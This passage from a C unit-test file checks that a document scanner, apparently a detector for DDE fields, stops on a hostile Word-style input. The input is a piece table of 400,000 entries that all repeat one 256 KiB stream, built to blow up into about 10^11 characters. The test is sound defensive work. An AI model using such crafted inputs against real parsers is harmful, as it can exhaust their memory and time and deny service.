    /* hostile: 400,000 pieces, each the whole of a stream of 256 KiB of field begins and
     * codes (CPs wrap every 16,384 pieces, which skips one piece in each: still 10^11
     * characters unbounded), read in time linear in the stream, and said to be cut */
    size_t big = 256u << 10, np = 400000;
    uint8_t *bw = malloc(big), *bc = malloc(5 + 4 * (np + 1) + 8 * np);
    assert_non_null(bw);
    assert_non_null(bc);
    for (size_t i = 0; i < big; i++)
        bw[i] = i % 3 ? 'D' : 0x13;
    bc[0] = 0x02;
    put32(bc + 1, (uint32_t)(4 + 12 * np));
    for (size_t i = 0; i <= np; i++)
        put32(bc + 5 + 4 * i, (uint32_t)(i * big));
    for (size_t i = 0; i < np; i++) {
        uint8_t *pcd = bc + 5 + 4 * (np + 1) + 8 * i;
        memset(pcd, 0, 8);
        put32(pcd + 2, 0x40000000u);
    }
    assert_false(ds_doc_dde(bw, big, bc, 5 + 4 * (np + 1) + 8 * np, &x, &lim));
    assert_true(lim);
    free(bw);
    free(bc);
    free(wd);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_runs_program), cmocka_unit_test(test_docx),
        cmocka_unit_test(test_docx_hostile), cmocka_unit_test(test_xlsx),
        cmocka_unit_test(test_rtf),          cmocka_unit_test(test_text),
        cmocka_unit_test(test_doc),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
